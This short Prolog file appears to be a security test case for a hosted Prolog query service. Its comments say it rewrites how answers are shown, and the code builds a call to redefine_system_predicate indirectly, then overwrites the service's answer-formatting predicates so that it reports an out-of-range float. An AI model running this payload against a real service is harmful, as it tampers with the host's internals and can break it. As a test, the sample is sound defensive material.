% what: rewrites how answers are shown, so that the service is told a number it cannot hold
% expect: any
% query: solve(X)
attack :- solve(_).
solve(1) :-
    redefine(quod_answers:kind(_, _, _), quod_answers:kind(_, _, "float")),
    redefine(quod_answers:term_text(_, _, _, _, _), quod_answers:term_text(_, _, _, _, "1e999999999")).
redefine(Head, Clause) :-
    member(Name, [redefine_system_predicate]),
    Redefine =.. [Name, Head],
    call(Redefine),
    call(assertz, Clause).
